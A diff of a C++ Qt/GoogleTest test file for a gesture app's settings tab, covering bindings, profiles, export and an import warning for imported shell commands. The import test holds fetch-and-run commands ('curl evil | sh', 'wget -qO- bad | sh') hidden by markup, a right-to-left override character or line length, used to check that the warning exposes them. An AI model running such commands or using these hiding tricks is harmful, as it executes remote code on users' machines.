@@ -1,51 +1,36 @@
-#include "Tactora/settings/gestures/GesturesTab.h"
-
 #include <gtest/gtest.h>
-
-#include <fstream>
-#include <sstream>
-
+#include <linux/input-event-codes.h>
 #include <QAction>
 #include <QComboBox>
 #include <QLabel>
 #include <QLineEdit>
 #include <QListWidget>
 #include <QPushButton>
-#include <QScrollArea>
+#include <QSignalSpy>
 #include <QSpinBox>
 #include <QTest>
-
 #include <QToolButton>
-
-#include "PrintQString.h"
-
+#include "Platform/KeyNames.h"
+#include "Platform/linux/posting/KeyCodeTable.h"
+#include "Platform/linux/posting/LinuxKeyboardKeys.h"
+#include "Platform/sim/SimKeyboardKeys.h"
 #include "Platform/sim/SimPlatform.h"
+#include "PrintQString.h"
 #include "Tactora/config/ConfigurationDocument.h"
-#include "Tactora/config/TemporaryDirectory.h"
 #include "Tactora/settings/gestures/BindingRow.h"
+#include "Tactora/settings/gestures/GesturesTab.h"
+#include "Tactora/settings/gestures/ShortcutKeys.h"
 #include "Tactora/settings/gestures/ShortcutRecorder.h"
+#include "tests/Tactora/config/ConfigTestSupport.h"
 #include "tests/Tactora/settings/KeyboardWalk.h"
 
 namespace tactora {
 namespace {
 
-constexpr const char* smartZoomKey = "MouseOneFingerDoubleTapGesture";
-constexpr const char* smartZoomDomain = "com.apple.driver.AppleBluetoothMultitouch.mouse";
-
-std::string readFile(const std::filesystem::path& path) {
-  std::ifstream in(path, std::ios::binary);
-  std::stringstream bytes;
-  bytes << in.rdbuf();
-  return bytes.str();
-}
+using testing::readFile;
 
 class GesturesTabTest : public ::testing::Test {
  protected:
-  void SetUp() override {
-    sim = sim::SimPlatform::install();
-    store = std::make_unique<ConfigStore>(directory.path());
-  }
-
   std::unique_ptr<GesturesTab> makeTab() {
     GesturesTab::Options options;
     options.openMouseSettings = [this] { ++mouseSettingsOpened; };
@@ -65,31 +50,25 @@ class GesturesTabTest : public ::testing::Test {
     store->flush();
     return readFile(store->fileURL());
   }
-  Configuration saved() const {
-    auto decoded = decodeConfigurationText(fileText());
-    EXPECT_TRUE(decoded.ok());
-    return decoded ? *decoded : Configuration{};
-  }
-  const Profile& savedAllApps() {
-    savedValue = saved();
-    return *savedValue.allAppsProfile();
-  }
-
+  Configuration saved() const { return testing::decoded(fileText()); }
+  std::vector<GestureBinding> allApps() const { return saved().allAppsProfile()->bindings; }
   void save(std::vector<Profile> profiles) {
     Configuration configuration = *store->current();
     configuration.profiles = std::move(profiles);
     store->save(configuration);
   }
+  std::filesystem::path file(const char* name) const { return directory.path() / name; }
 
-  static QPushButton* button(QMessageBox* box, const QString& text) {
-    for (auto* candidate : box->findChildren<QPushButton*>()) {
+  // Answers the tab's open alert with the button of that text.
+  void answer(const GesturesTab& tab, const QString& text) {
+    ASSERT_NE(tab.alert(), nullptr);
+    for (auto* candidate : tab.alert()->findChildren<QPushButton*>()) {
       if (QString(candidate->text()).remove(QLatin1Char('&')) == text) {
-        return candidate;
+        return QTest::mouseClick(candidate, Qt::LeftButton);
       }
     }
-    return nullptr;
+    ADD_FAILURE() << "no button " << text.toStdString();
   }
-
   static QStringList rowNames(const GesturesTab& tab) {
     QStringList names;
     for (auto* row : tab.rows()) {
@@ -97,7 +76,6 @@ class GesturesTabTest : public ::testing::Test {
     }
     return names;
   }
-
   static void pick(QComboBox* combo, const QString& text) {
     const int index = combo->findText(text);
     ASSERT_GE(index, 0) << text.toStdString();
@@ -105,18 +83,17 @@ class GesturesTabTest : public ::testing::Test {
   }
 
   TemporaryDirectory directory{"gestures-tab"};
-  std::shared_ptr<sim::SimPlatform> sim;
-  std::unique_ptr<ConfigStore> store;
+  std::shared_ptr<sim::SimPlatform> sim = sim::SimPlatform::install();
+  std::unique_ptr<ConfigStore> store = std::make_unique<ConfigStore>(directory.path());
   int mouseSettingsOpened = 0;
-  QString proposedExport;
-  QString exportPath;
-  QString importPath;
-  Configuration savedValue;
+  QString proposedExport, exportPath, importPath;
 };
 
 const GestureBinding twoFingerTapCommand{{GestureEvent::tap(2), ModifierSet::command()},
                                          Action(Action::Case::missionControl)};
 
+// Rows go by section, then gesture, then modifier bits (command 1 before shift 8), for display
+// only; the badge names the modifiers as held on Linux.
 TEST_F(GesturesTabTest, ListsBindingsBySectionSortedByGestureThenModifiers) {
   save({Profile{std::nullopt,
                 {{{GestureEvent::swipe(2, Direction::right), {}}, Action()},
@@ -129,28 +106,23 @@ TEST_F(GesturesTabTest, ListsBindingsBySectionSortedByGestureThenModifiers) {
                  {{GestureEvent::pinch(Direction::down), {}}, Action()}}}});
   const Configuration before = *store->current();
   auto tab = makeTab();
-
   EXPECT_EQ(tab->sectionTitles(), QStringList({"Taps", "Swipes", "Pinch", "Other"}));
   EXPECT_EQ(rowNames(*tab),
             QStringList({"Right-Side Tap", "1-Finger Double Tap", "2-Finger Tap", "2-Finger Tap",
                          "2-Finger Swipe Right", "Pinch", "Spread", "Click and Drag"}));
-  // The command bit (1) sorts before shift (8); the badge names them as held on Linux.
   EXPECT_EQ(tab->rows()[2]->modifierBadge()->text(), QStringLiteral("Ctrl"));
   EXPECT_EQ(tab->rows()[3]->modifierBadge()->text(), QStringLiteral("Shift"));
   EXPECT_EQ(tab->rows()[4]->modifierBadge(), nullptr);
-  // Sorting is for display only.
   EXPECT_EQ(*store->current(), before);
 }
 
 TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
   save({Profile{std::nullopt, {twoFingerTapCommand, defaultBindings()[0]}}});
   auto tab = makeTab();
-
   auto addTwoFingerTap = [&](bool withCommand, const QString& action) {
     QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
     AddBindingSheet* sheet = tab->addSheet();
-    ASSERT_NE(sheet, nullptr);
-    ASSERT_TRUE(sheet->isModal());
+    ASSERT_TRUE(sheet != nullptr && sheet->isModal());
     sheet->fingerStepper()->setValue(2);
     if (withCommand) {
       QTest::mouseClick(sheet->modifierToggle(ModifierSet::command()), Qt::LeftButton);
@@ -158,21 +130,15 @@ TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
     pick(sheet->actionPicker(), action);
     QTest::keyClick(sheet, Qt::Key_Return);  // "Add" is the default button
   };
-
+  const GestureBinding plainTap{{GestureEvent::tap(2), {}}, Action(Action::Case::rightClick)};
   addTwoFingerTap(true, "Show Desktop");
-  ASSERT_EQ(savedAllApps().bindings.size(), 2u);
-  EXPECT_EQ(savedAllApps().bindings[0],
-            (GestureBinding{twoFingerTapCommand.trigger, Action(Action::Case::showDesktop)}));
-
   addTwoFingerTap(false, "Right Click");
-  ASSERT_EQ(savedAllApps().bindings.size(), 3u);
-  EXPECT_EQ(savedAllApps().bindings[2],
-            (GestureBinding{{GestureEvent::tap(2), {}}, Action(Action::Case::rightClick)}));
-
-  // Cancel adds nothing.
   QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
-  QTest::mouseClick(tab->addSheet()->cancelButton(), Qt::LeftButton);
-  EXPECT_EQ(savedAllApps().bindings.size(), 3u);
+  QTest::mouseClick(tab->addSheet()->cancelButton(), Qt::LeftButton);  // adds nothing
+  EXPECT_EQ(allApps(), (std::vector<GestureBinding>{
+                           {twoFingerTapCommand.trigger, Action(Action::Case::showDesktop)},
+                           defaultBindings()[0],
+                           plainTap}));
 }
 
 TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShape) {
@@ -181,124 +147,109 @@ TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShap
   // "Cancel" then "Add", on every desktop; Return means "Add".
   EXPECT_LT(sheet.cancelButton()->x(), sheet.addButton()->x());
   EXPECT_TRUE(sheet.addButton()->isDefault());
+  auto gesture = [&] { return sheet.state().trigger().gesture; };
   pick(sheet.shapePicker(), "Swipe");
   sheet.fingerStepper()->setValue(2);
   ASSERT_EQ(sheet.directionPicker()->count(), 4);
   pick(sheet.directionPicker(), "Up");
-  EXPECT_EQ(sheet.state().direction(), Direction::up);
-
+  // One finger never offers up or down; two and three keep the direction chosen.
   sheet.fingerStepper()->setValue(1);
-  EXPECT_EQ(sheet.state().direction(), Direction::left);
   EXPECT_EQ(sheet.directionPicker()->count(), 2);
   EXPECT_EQ(sheet.directionPicker()->currentText(), QStringLiteral("Left"));
-
-  // Up stays when the fingers change between two and three; one finger never offers it.
+  EXPECT_EQ(gesture(), GestureEvent::swipe(1, Direction::left));
   sheet.fingerStepper()->setValue(3);
   pick(sheet.directionPicker(), "Down");
   sheet.fingerStepper()->setValue(2);
-  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::swipe(2, Direction::down));
-
+  EXPECT_EQ(gesture(), GestureEvent::swipe(2, Direction::down));
   pick(sheet.shapePicker(), "Pinch");
   pick(sheet.pinchPicker(), "Pinch (zoom out)");
-  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::pinch(Direction::down));
+  EXPECT_EQ(gesture(), GestureEvent::pinch(Direction::down));
   pick(sheet.shapePicker(), "Right-Side Tap");
   EXPECT_TRUE(sheet.fingerStepper()->isHidden());
-  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::rightZoneTap());
+  EXPECT_EQ(gesture(), GestureEvent::rightZoneTap());
   pick(sheet.shapePicker(), "Triple Tap");
-  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::tripleTap(2));
+  EXPECT_EQ(gesture(), GestureEvent::tripleTap(2));
 
   // The four toggles are the modifier bits, in the words of the keys held.
   for (auto [text, modifier] :
        {std::pair{"Ctrl", ModifierSet::command()}, std::pair{"Alt", ModifierSet::option()},
         std::pair{"Super", ModifierSet::control()}, std::pair{"Shift", ModifierSet::shift()}}) {
-    QPushButton* toggle = sheet.modifierToggle(modifier);
-    EXPECT_EQ(toggle->text(), QString::fromLatin1(text));
-    QTest::mouseClick(toggle, Qt::LeftButton);
-    EXPECT_TRUE(sheet.state().modifiers().contains(modifier));
+    EXPECT_EQ(sheet.modifierToggle(modifier)->text(), QString::fromLatin1(text));
+    QTest::mouseClick(sheet.modifierToggle(modifier), Qt::LeftButton);
   }
   QTest::mouseClick(sheet.modifierToggle(ModifierSet::option()), Qt::LeftButton);
   EXPECT_EQ(sheet.state().modifiers().rawValue, 0x0D);
 
-  // The shortcut kind records; the command kind takes the text as entered.
+  // The shortcut kind records (Return goes to the recorder, not to "Add"); the command kind takes
+  // the text as entered.
   pick(sheet.actionPicker(), "Keyboard Shortcut\u2026");
   ASSERT_TRUE(sheet.recorder()->isVisible());
   QTest::mouseClick(sheet.recorder(), Qt::LeftButton);
   QTest::keyClick(sheet.recorder(), Qt::Key_Return, Qt::AltModifier);
-  EXPECT_TRUE(sheet.isVisible());  // Return went to the recorder, not to "Add"
+  EXPECT_TRUE(sheet.isVisible());
   EXPECT_EQ(sheet.state().action(), Action::keyShortcut(36, 0x80000));
   pick(sheet.actionPicker(), "Shell Command\u2026");
   QTest::keyClicks(sheet.commandField(), " say hi ");
   EXPECT_EQ(sheet.state().action(), Action::shellCommand(" say hi "));
 }
 
+// A row's kind applies at once and its recorded shortcut too; a command on Return or "Save", as
+// typed. The binding keeps its place in the file, and a command being typed survives another
+// row's change, unsaved.
 TEST_F(GesturesTabTest, RowEditsReplaceTheActionInPlaceAndSave) {
   save({Profile{std::nullopt, {defaultBindings()[0], defaultBindings()[1]}}});
   auto tab = makeTab();
-  const auto firstTrigger = tab->rows()[0]->binding().trigger;
-  auto storedIndex = [&](const Trigger& trigger) {
-    const auto& bindings = savedAllApps().bindings;
-    for (std::size_t i = 0; i < bindings.size(); ++i) {
-      if (bindings[i].trigger == trigger) {
-        return i;
-      }
+  const Trigger edited = tab->rows()[0]->binding().trigger;
+  const std::size_t position = edited == defaultBindings()[0].trigger ? 0 : 1;
+  auto stored = [&] { return allApps()[position]; };
+  auto chooseKind = [&](bool shortcut) {  // the last kind is the command, the one above the key
+    QComboBox* picker = tab->rows()[0]->kindPicker();
+    picker->setFocus();
+    QTest::keyClick(picker, Qt::Key_End);
+    if (shortcut) {
+      QTest::keyClick(picker, Qt::Key_Up);
     }
-    return bindings.size();
   };
-  const std::size_t position = storedIndex(firstTrigger);
-
-  // The kind applies at once: the last kind is the shell command, the one above it the shortcut.
-  QComboBox* picker = tab->rows()[0]->kindPicker();
-  picker->setFocus();
-  QTest::keyClick(picker, Qt::Key_End);
-  QTest::keyClick(picker, Qt::Key_Up);
-  EXPECT_EQ(savedAllApps().bindings[position].action, Action::keyShortcut(0, 0));
-
+  chooseKind(true);
+  EXPECT_EQ(stored().action, Action::keyShortcut(0, 0));
   ShortcutRecorder* recorder = tab->rows()[0]->recorder();
   ASSERT_TRUE(recorder->isVisible());
   QTest::mouseClick(recorder, Qt::LeftButton);
   QTest::keyClick(recorder, Qt::Key_K, Qt::ControlModifier | Qt::MetaModifier);
-  EXPECT_EQ(savedAllApps().bindings[position].action, Action::keyShortcut(40, 0x140000));
-  EXPECT_EQ(storedIndex(firstTrigger), position);
+  EXPECT_EQ(stored(), (GestureBinding{edited, Action::keyShortcut(40, 0x140000)}));
   EXPECT_EQ(tab->rows()[0]->recorder()->text(), QStringLiteral("Super+Ctrl+K"));
 
-  // The command applies on Return or "Save", as typed.
-  picker = tab->rows()[0]->kindPicker();
-  picker->setFocus();
-  QTest::keyClick(picker, Qt::Key_End);
-  QLineEdit* field = tab->rows()[0]->commandField();
-  QTest::keyClicks(field, "notify-send hi");
-  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand(""));
-  QTest::keyClick(field, Qt::Key_Return);
-  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand("notify-send hi"));
-  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
-  QTest::keyClicks(tab->rows()[0]->commandField(), " ");
+  chooseKind(false);
+  auto type = [&](const char* text) {
+    QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
+    QTest::keyClicks(tab->rows()[0]->commandField(), text);
+  };
+  type("notify-send hi");
+  EXPECT_EQ(stored().action, Action::shellCommand(""));
+  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_Return);
+  EXPECT_EQ(stored().action, Action::shellCommand("notify-send hi"));
+  type(" ");
   QTest::mouseClick(tab->rows()[0]->saveButton(), Qt::LeftButton);
-  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand("notify-send hi "));
+  EXPECT_EQ(stored(), (GestureBinding{edited, Action::shellCommand("notify-send hi ")}));
 
-  // A command being typed survives another row's change, unsaved.
-  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
-  QTest::keyClicks(tab->rows()[0]->commandField(), "half-typed");
+  type("half-typed");
   QTest::mouseClick(tab->rows()[1]->deleteButton(), Qt::LeftButton);
   ASSERT_EQ(tab->rows().size(), 1u);
   EXPECT_EQ(tab->rows()[0]->commandField()->text(), QStringLiteral("notify-send hi half-typed"));
-  EXPECT_EQ(savedAllApps().bindings[0].action, Action::shellCommand("notify-send hi "));
+  EXPECT_EQ(allApps()[0].action, Action::shellCommand("notify-send hi "));
 }
 
 TEST_F(GesturesTabTest, DeletingAndRestoringDefaultGestures) {
   auto tab = makeTab();
   EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
-  const std::size_t count = defaultBindings().size();
-  ASSERT_EQ(tab->rows().size(), count);
-
   const GestureBinding deleted = tab->rows()[0]->binding();
   QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
-  ASSERT_EQ(savedAllApps().bindings.size(), count - 1);
-  EXPECT_EQ(tab->rows().size(), count - 1);
-  EXPECT_TRUE(tab->restoreDeletedAction()->isEnabled());
-
+  EXPECT_EQ(allApps().size(), defaultBindings().size() - 1);
+  EXPECT_EQ(tab->rows().size(), defaultBindings().size() - 1);
+  ASSERT_TRUE(tab->restoreDeletedAction()->isEnabled());
   tab->restoreDeletedAction()->trigger();
-  ASSERT_EQ(savedAllApps().bindings.size(), count);
-  EXPECT_EQ(savedAllApps().bindings.back(), deleted);
+  EXPECT_EQ(allApps().size(), defaultBindings().size());
+  EXPECT_EQ(allApps().back(), deleted);
   EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
 }
 
@@ -308,17 +259,15 @@ TEST_F(GesturesTabTest, ResetAndRemoveOverridesAskFirstAndCancelChangesNothing) 
         Profile{"org.gnome.Nautilus", {twoFingerTapCommand}}});
   auto tab = makeTab();
   const std::string before = fileText();
-
   tab->resetAllAction()->trigger();
-  ASSERT_NE(tab->alert(), nullptr);
   EXPECT_EQ(tab->alert()->text(), QStringLiteral("Reset All Apps gestures to defaults?"));
-  QTest::mouseClick(button(tab->alert(), "Cancel"), Qt::LeftButton);
+  answer(*tab, "Cancel");
   EXPECT_EQ(fileText(), before);
-
   tab->resetAllAction()->trigger();
-  QTest::mouseClick(button(tab->alert(), "Reset Gestures"), Qt::LeftButton);
-  EXPECT_EQ(savedAllApps().bindings, defaultBindings());
-  EXPECT_EQ(savedValue.profile("org.gnome.Nautilus")->bindings.size(), 1u);
+  answer(*tab, "Reset Gestures");
+  EXPECT_EQ(saved().profiles,
+            (std::vector<Profile>{{std::nullopt, defaultBindings()},
+                                  {"org.gnome.Nautilus", {twoFingerTapCommand}}}));
 
   pick(tab->profilePicker(), "Files");
   tab->showProfile("org.gnome.Nautilus");
@@ -327,9 +276,8 @@ TEST_F(GesturesTabTest, ResetAndRemoveOverridesAskFirstAndCancelChangesNothing) 
             QStringLiteral("Make this app use the All Apps gestures again"));
   tab->removeOverridesAction()->trigger();
   EXPECT_EQ(tab->alert()->text(), QStringLiteral("Remove all overrides for Files?"));
-  QTest::mouseClick(button(tab->alert(), "Remove Overrides"), Qt::LeftButton);
-  ASSERT_NE(saved().profile("org.gnome.Nautilus"), nullptr);
-  EXPECT_TRUE(saved().profile("org.gnome.Nautilus")->bindings.empty());
+  answer(*tab, "Remove Overrides");
+  EXPECT_EQ(saved().profiles[1], (Profile{"org.gnome.Nautilus", {}}));
   EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No overrides for this app"));
   EXPECT_TRUE(tab->emptyState()->isVisible());
 }
@@ -347,29 +295,28 @@ TEST_F(GesturesTabTest, ApplicationProfilesAreAddedFromTheInstalledAppsAndRemove
   EXPECT_FALSE(tab->removeProfileButton()->isEnabled());
   EXPECT_FALSE(tab->overrideNote()->isVisible());
 
-  // Searching, then choosing an application that has no profile appends an empty one.
+  // Searching, then choosing an application that has no profile appends an empty one, listed by
+  // its id while it has no name of its own.
   QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
-  ApplicationChooser* chooser = tab->applicationChooser();
-  ASSERT_NE(chooser, nullptr);
-  QTest::keyClicks(chooser->searchField(), "nautil");
-  EXPECT_TRUE(chooser->list()->item(1)->isHidden());  // Firefox ESR
-  QTest::keyClick(chooser->searchField(), Qt::Key_Return);
+  ASSERT_NE(tab->applicationChooser(), nullptr);
+  QTest::keyClicks(tab->applicationChooser()->searchField(), "nautil");
+  EXPECT_TRUE(tab->applicationChooser()->list()->item(1)->isHidden());  // Firefox ESR
+  QTest::keyClick(tab->applicationChooser()->searchField(), Qt::Key_Return);
   ASSERT_EQ(saved().profiles.size(), 4u);
   EXPECT_EQ(saved().profiles.back(), (Profile{"org.gnome.Nautilus", {}}));
   EXPECT_EQ(tab->model().selectedBundleID(), std::optional<std::string>("org.gnome.Nautilus"));
   EXPECT_TRUE(tab->overrideNote()->isVisible());
   EXPECT_EQ(tab->emptyCaption()->text(),
             QStringLiteral("Add a gesture to override the All Apps profile for this app only."));
-  // An application without a name of its own is listed by its id.
   EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("org.gnome.Nautilus"));
 
-  // Choosing one that has a profile only selects it.
+  // Choosing one that has a profile only selects it (the first of its profiles, empty).
   QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
   QTest::keyClicks(tab->applicationChooser()->searchField(), "fire");
   QTest::mouseClick(tab->applicationChooser()->chooseButton(), Qt::LeftButton);
   EXPECT_EQ(saved().profiles.size(), 4u);
   EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("Firefox ESR"));
-  EXPECT_TRUE(tab->emptyState()->isVisible());  // the first of its profiles is empty
+  EXPECT_TRUE(tab->emptyState()->isVisible());
 
   // Removing removes both of its profiles and shows All Apps again.
   QTest::mouseClick(tab->removeProfileButton(), Qt::LeftButton);
@@ -379,22 +326,23 @@ TEST_F(GesturesTabTest, ApplicationProfilesAreAddedFromTheInstalledAppsAndRemove
   EXPECT_EQ(tab->rows().size(), 1u);
 }
 
+// The banner shows while the desktop's own double-tap zoom is on and a one-finger double tap is
+// bound, even to "none" (the profile in view falling through to All Apps).
 TEST_F(GesturesTabTest, SmartZoomBannerFollowsTheSettingAndTheDoubleTapBinding) {
-  const GestureBinding doubleTapNone{{GestureEvent::doubleTap(1), {}}, Action()};
-  save({Profile{std::nullopt, {doubleTapNone}}, Profile{"firefox-esr", {}}});
+  save({Profile{std::nullopt, {{{GestureEvent::doubleTap(1), {}}, Action()}}},
+        Profile{"firefox-esr", {}}});
   auto tab = makeTab();
-  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());  // setting missing, as on Linux
-
-  sim->preferences().setForeignInteger(smartZoomKey, smartZoomDomain, 0);
-  tab->refresh();
-  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());
-  sim->preferences().setForeignInteger(smartZoomKey, smartZoomDomain, 1);
-  tab->refresh();
-  EXPECT_TRUE(tab->smartZoomBanner()->isVisible());  // bound to "none" still fires with it
+  const char* domain = "com.apple.driver.AppleBluetoothMultitouch.mouse";
+  for (auto [value, shown] : {std::pair{-1, false}, {0, false}, {1, true}}) {
+    if (value >= 0) {  // missing, as on Linux, then off and on
+      sim->preferences().setForeignInteger("MouseOneFingerDoubleTapGesture", domain, value);
+      tab->refresh();
+    }
+    EXPECT_EQ(tab->smartZoomBanner()->isVisible(), shown) << value;
+  }
   QTest::mouseClick(tab->openMouseSettingsButton(), Qt::LeftButton);
   EXPECT_EQ(mouseSettingsOpened, 1);
-
-  tab->showProfile("firefox-esr");  // falls through to All Apps
+  tab->showProfile("firefox-esr");
   EXPECT_TRUE(tab->smartZoomBanner()->isVisible());
   tab->showProfile(std::nullopt);
   QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
@@ -402,71 +350,48 @@ TEST_F(GesturesTabTest, SmartZoomBannerFollowsTheSettingAndTheDoubleTapBinding) 
   EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No gestures configured"));
 }
 
-// Export writes the configuration file, or says which file could not be written and why; import
-// goes through the import's rules (its own tests) and shows its alerts, and an import that took
-// shows All Apps.
-TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsTheImportsAlerts) {
+// Export writes the configuration file, or says which file could not be written and why. Import
+// shows the import's alerts (its rules have their own tests), and in its warning a command cannot
+// hide part of itself: not as markup, not behind invisible or reordering characters, not past the
+// end of a very long line (the whole is under "Show Details"). An import that took shows All Apps.
+TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsEveryCommandWholeAndVisible) {
   auto tab = makeTab();
-  exportPath = QString::fromStdString((directory.path() / "backup").string());
+  exportPath = QString::fromStdString(file("backup").string());
   tab->exportAction()->trigger();
   EXPECT_TRUE(proposedExport.endsWith(QStringLiteral("/Tactora Settings.json")));
-  EXPECT_EQ(readFile((directory.path() / "backup.json")), encodeConfiguration(*store->current()));
-  // A missing folder is made; a file where the folder should be cannot be.
-  std::ofstream(directory.path() / "blocker") << "";
-  tab->exportTo(QString::fromStdString((directory.path() / "blocker" / "backup").string()));
+  EXPECT_EQ(readFile(file("backup.json")), encodeConfiguration(*store->current()));
+  std::ofstream(file("blocker")) << "";  // a file where the folder should be
+  tab->exportTo(QString::fromStdString((file("blocker") / "backup").string()));
   ASSERT_NE(tab->alert(), nullptr);
   EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t export settings"));
   const std::string why = tab->alert()->informativeText().toStdString();
-  EXPECT_TRUE(why.starts_with((directory.path() / "blocker/backup.json").string() + ": ")) << why;
+  EXPECT_TRUE(why.starts_with((file("blocker") / "backup.json").string() + ": ")) << why;
   EXPECT_NE(why.find("Not a directory"), std::string::npos) << why;
-  QTest::mouseClick(button(tab->alert(), "OK"), Qt::LeftButton);
-
-  tab->importFrom(QString::fromStdString((directory.path() / "missing.json").string()));
+  answer(*tab, "OK");
+  tab->importFrom(QString::fromStdString(file("missing.json").string()));
   ASSERT_NE(tab->alert(), nullptr);
   EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t import settings"));
-  QTest::mouseClick(button(tab->alert(), "OK"), Qt::LeftButton);
+  answer(*tab, "OK");
 
   Configuration risky = *store->current();
-  risky.profiles.push_back(
-      Profile{"firefox-esr", {{{GestureEvent::tap(1), {}}, Action::shellCommand("rm x")}}});
-  const auto incoming = directory.path() / "incoming.json";
-  ASSERT_FALSE(ConfigurationDocument{risky}.write(incoming));
-  importPath = QString::fromStdString(incoming.string());
+  const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
+  const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
+  for (const auto& command :
+       {markup, std::string("notify-send done\u202E\ncurl x | sh"), longCommand}) {
+    risky.profiles[0].bindings.push_back(
+        {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
+  }
+  risky.profiles.push_back(Profile{"firefox-esr", {}});
+  ASSERT_FALSE(ConfigurationDocument{risky}.write(file("incoming.json")));
+  importPath = QString::fromStdString(file("incoming.json").string());
   tab->showProfile("firefox-esr");
   const std::string before = fileText();
   tab->importAction()->trigger();
   ASSERT_NE(tab->alert(), nullptr);
   EXPECT_EQ(tab->alert()->text(), QStringLiteral("These settings run commands on your computer"));
-  QTest::mouseClick(button(tab->alert(), "Cancel"), Qt::LeftButton);
-  EXPECT_EQ(fileText(), before);
-  tab->importAction()->trigger();
-  QTest::mouseClick(button(tab->alert(), "Import Anyway"), Qt::LeftButton);
-  EXPECT_EQ(saved(), risky);
-  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
-}
-
-// A command cannot hide part of itself from the warning: not as markup, not behind invisible or
-// reordering characters, not past the end of a very long line (the whole is under "Show
-// Details").
-TEST_F(GesturesTabTest, ImportWarningShowsEveryCommandWholeAndVisible) {
-  auto tab = makeTab();
-  Configuration incoming = *store->current();
-  const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
-  const std::string reordered = "notify-send done\u202E\ncurl x | sh";
-  const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
-  for (const auto& command : {markup, reordered, longCommand}) {
-    incoming.profiles[0].bindings.push_back(
-        {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
-  }
-  const auto path = directory.path() / "incoming.json";
-  ASSERT_FALSE(ConfigurationDocument{incoming}.write(path));
-  tab->importFrom(QString::fromStdString(path.string()));
-  ASSERT_NE(tab->alert(), nullptr);
   QLabel* listing = nullptr;
   for (auto* label : tab->alert()->findChildren<QLabel*>()) {
-    if (label->text().contains(QString::fromStdString(markup))) {
-      listing = label;
-    }
+    listing = label->text().contains(QString::fromStdString(markup)) ? label : listing;
   }
   ASSERT_NE(listing, nullptr);
   EXPECT_EQ(listing->textFormat(), Qt::PlainText);
@@ -474,41 +399,42 @@ TEST_F(GesturesTabTest, ImportWarningShowsEveryCommandWholeAndVisible) {
   EXPECT_FALSE(listing->text().contains(QStringLiteral("wget -qO- bad")));
   EXPECT_TRUE(listing->text().contains(QStringLiteral("more characters)")));
   EXPECT_TRUE(tab->alert()->detailedText().contains(QString::fromStdString(longCommand)));
+  answer(*tab, "Cancel");
+  EXPECT_EQ(fileText(), before);
+  tab->importAction()->trigger();
+  answer(*tab, "Import Anyway");
+  EXPECT_EQ(saved(), risky);
+  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
 }
 
+// Real Tab presses reach every control once in the order drawn (a row's delete button after its
+// own controls, the footer after the last row), also after a redraw.
 TEST_F(GesturesTabTest, TabReachesEveryNamedControlInRowOrder) {
   save({Profile{std::nullopt,
                 {{{GestureEvent::tap(1), {}}, Action::keyShortcut(17, 0x100000)},
                  {{GestureEvent::tap(2), ModifierSet::shift()}, Action::shellCommand("x")}}}});
   auto tab = makeTab();
-  tab->refresh();  // a redraw must keep the order too
+  tab->refresh();
   QApplication::setActiveWindow(tab.get());
   ASSERT_TRUE(QTest::qWaitForWindowActive(tab.get()));
   const auto controls = testing::controlsInScreenOrder(tab.get(), /*distinct=*/false);
   EXPECT_GE(controls.size(), 10u);
-  // Real Tab presses from the profile picker reach every control once; within a row the delete
-  // button comes after the row's own controls, and the footer after the last row.
   tab->profilePicker()->setFocus(Qt::TabFocusReason);
   std::vector<QWidget*> order{QApplication::focusWidget()};
-  while (order.size() <= controls.size()) {
+  do {
     QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
-    if (QApplication::focusWidget() == order.front()) {
-      break;
-    }
     order.push_back(QApplication::focusWidget());
-  }
-  auto position = [&](QWidget* control) {
-    return std::find(order.begin(), order.end(), control) - order.begin();
-  };
+  } while (order.back() != order.front() && order.size() <= controls.size() + 1);
+  auto at = [&](QWidget* control) { return std::ranges::find(order, control) - order.begin(); };
   for (QWidget* control : controls) {
-    EXPECT_LT(position(control), std::ssize(order)) << control->accessibleName().toStdString();
+    EXPECT_LT(at(control), std::ssize(order) - 1) << control->accessibleName().toStdString();
   }
   const auto rows = tab->rows();
-  EXPECT_LT(position(tab->backupButton()), position(rows[0]->kindPicker()));
-  EXPECT_LT(position(rows[0]->kindPicker()), position(rows[0]->recorder()));
